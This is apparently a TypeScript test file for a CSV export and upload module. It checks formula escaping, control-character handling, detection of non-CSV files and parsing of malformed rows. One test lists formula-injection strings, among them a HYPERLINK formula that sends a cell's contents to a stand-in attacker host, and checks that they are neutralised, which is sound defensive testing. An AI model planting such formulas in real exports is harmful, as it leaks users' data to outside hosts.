import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { type CsvFormat, expectedColumns, parseCsvUpload, sampleRows, toCsv } from './csv.ts'
import { InvalidError } from './errors.ts'
import { controlCharacterIn } from './text.ts'

describe('toCsv', () => {
  it('prefixes a single quote to text a spreadsheet would run as a formula', () => {
    const formulas = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1+1)', '-2+3', '@SUM(1)', '\tTAB', '\rCR', '＝1+1']
    const [row] = parse(toCsv([formulas])) as string[][]
    assert.deepEqual(
      row,
      formulas.map((formula) => `'${formula}`),
    )
  })

  it('keeps ordinary text and numbers, negative ones included, as they are', () => {
    assert.equal(toCsv([['Ada Lovelace', 'a-b@example.org', '2026-12-07', 42, -3, 0]]), 'Ada Lovelace,a-b@example.org,2026-12-07,42,-3,0\n')
  })
})

const PEOPLE: CsvFormat = {
  columns: [
    { name: 'name', examples: ['Ada Lovelace', 'Alan Turing'] },
    { name: 'email', examples: ['ada@example.org', 'alan@example.org'] },
    { name: 'date', isOptional: true, note: 'YYYY-MM-DD', examples: ['2026-01-31', ''] },
  ],
}
const read = (content: string | Buffer) => parseCsvUpload(Buffer.isBuffer(content) ? content : Buffer.from(content), PEOPLE)
const refusal = (content: string | Buffer) => {
  try {
    read(content)
  } catch (error) {
    if (error instanceof InvalidError) return error.message
    throw error
  }
  assert.fail('the file was accepted')
}

describe('parseCsvUpload', () => {
  it('reads rows with their line numbers; a line holding a control character is one problem row', () => {
    const upload = read('name,email\nAda\tLovelace,ada@example.org\n\nesc\u001b,esc@example.org\n"Multi\nline",m@example.org\n')
    assert.deepEqual(upload.rows, [
      { line: 2, values: { name: 'Ada\tLovelace', email: 'ada@example.org' } },
      { line: 6, values: { name: 'Multi\nline', email: 'm@example.org' } },
    ])
    assert.deepEqual(upload.problems, [{ line: 4, reason: 'column name holds a control character (U+001B); remove it' }])
    assert.equal(upload.totalRows, 3)
  })

  it('says what a file that is not CSV looks like, without echoing its bytes', () => {
    const pdf = Buffer.concat([Buffer.from('%PDF-1.7\n%\u00e2\u00e3\n1 0 obj'), Buffer.from([0, 1, 2, 0xff, 0x1b])])
    assert.equal(refusal(pdf), 'This is not a CSV file (it looks like a PDF).')
    assert.equal(
      refusal(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0])),
      'This is not a CSV file (it looks like a ZIP archive, such as an Excel workbook: save it as CSV first).',
    )
    assert.equal(refusal(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])), 'This is not a CSV file (it looks like a PNG image).')
    assert.equal(refusal(Buffer.from([0xff, 0xd8, 0xff, 0xe0])), 'This is not a CSV file (it looks like a JPEG image).')
    assert.equal(refusal('<svg xmlns="http://www.w3.org/2000/svg" width="10"><rect/></svg>'), 'This is not a CSV file (it looks like an SVG image).')
    assert.equal(refusal('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'), 'This is not a CSV file (it looks like an SVG image).')
    assert.equal(refusal('<!DOCTYPE html><html><body>hi</body></html>'), 'This is not a CSV file (it looks like a web page (HTML)).')
    assert.equal(refusal('<?xml version="1.0"?><rows/>'), 'This is not a CSV file (it looks like an XML document).')
    assert.equal(refusal(Buffer.from('name,email\nAda\u0000\u0001,x\n')), 'This is not a CSV file (it looks like a binary file).')
  })

  it('treats a damaged last line as one bad row of a large file', () => {
    const lines = Array.from({ length: 34_000 }, (_, i) => `Person ${i},p${i}@example.org`)
    const upload = read(`name,email\n${lines.join('\n')}\n"Cut Sho`)
    assert.equal(upload.rows.length, 34_000)
    assert.deepEqual(upload.problems, [{ line: 34_002, reason: 'a quoted value is not closed by the end of the file (the line may be cut short)' }])
    assert.equal(upload.totalRows, 34_001)
  })

  it('lists each unreadable line and keeps reading after it', () => {
    const upload = read('name,email\nA,a@example.org,extra\nB,b"x@example.org\nC,c@example.org\n')
    assert.deepEqual(
      upload.rows.map((row) => row.line),
      [4],
    )
    assert.deepEqual(upload.problems, [
      { line: 2, reason: 'the number of values differs from the header line' },
      { line: 3, reason: 'a quote appears inside an unquoted value; quote the whole value and double the quote ("")' },
    ])
  })

  it('refuses a header lacking a required column, naming the expected ones', () => {
    assert.equal(refusal('name,mail\nAda,ada@example.org\n'), 'The header line lacks: email. Expected columns: name, email, date (YYYY-MM-DD, optional).')
    assert.equal(refusal('name,email\n'), 'The file has no rows under its header line.')
  })

  it('never crashes on any input, and never puts a control character in what it says', () => {
    const csvish = fc.string({ unit: fc.constantFrom('a', 'b', ',', '"', '\n', '\r', ' ', '\u0000', '\u001b', '\t', '<', '%', 'é'), maxLength: 200 })
    const inputs = fc.oneof(
      csvish.map((text) => Buffer.from(`name,email\n${text}`)),
      csvish.map((text) => Buffer.from(text)),
      fc.uint8Array({ maxLength: 300 }).map((bytes) => Buffer.from(bytes)),
    )
    fc.assert(
      fc.property(inputs, (content) => {
        let said: string[]
        try {
          const upload = read(content)
          said = upload.problems.map((problem) => problem.reason)
          for (const row of upload.rows) for (const value of Object.values(row.values)) assert.equal(controlCharacterIn(value), undefined)
        } catch (error) {
          assert.ok(error instanceof InvalidError, String(error))
          said = [error.message]
        }
        for (const text of said) assert.equal(controlCharacterIn(text), undefined, text)
      }),
      { numRuns: 2000 },
    )
  })

  it('makes a sample file, from the same columns, that reads back without a problem', () => {
    const upload = read(Buffer.from(toCsv(sampleRows(PEOPLE))))
    assert.deepEqual(upload.problems, [])
    assert.deepEqual(
      upload.rows.map((row) => row.values),
      [
        { name: 'Ada Lovelace', email: 'ada@example.org', date: '2026-01-31' },
        { name: 'Alan Turing', email: 'alan@example.org', date: '' },
      ],
    )
    assert.equal(expectedColumns(PEOPLE), 'name, email, date (YYYY-MM-DD, optional)')
  })
})
